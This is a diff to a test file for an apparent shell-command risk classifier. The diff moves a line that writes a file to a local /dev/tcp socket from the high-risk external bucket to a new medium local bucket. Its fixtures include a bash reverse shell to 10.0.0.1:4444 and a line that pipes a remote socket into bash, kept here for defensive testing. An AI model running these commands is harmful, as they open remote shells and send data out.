@@ -62,7 +62,8 @@ describe('A connection through the shell', () => {
     expectVerdicts({
         'LOW local': ['</dev/tcp/localhost/80'],
         'LOW external': [`timeout 2 bash -c '</dev/tcp/db.internal/5432'`],
-        'HIGH external': ['exec 3<>/dev/tcp/10.0.0.1/4444', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'bash < /dev/tcp/10.0.0.1/4444', 'cat notes > /dev/tcp/localhost/80']
+        'HIGH external': ['exec 3<>/dev/tcp/10.0.0.1/4444', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'bash < /dev/tcp/10.0.0.1/4444'],
+        'MED local': ['cat notes > /dev/tcp/localhost/80']
     });
 });
 
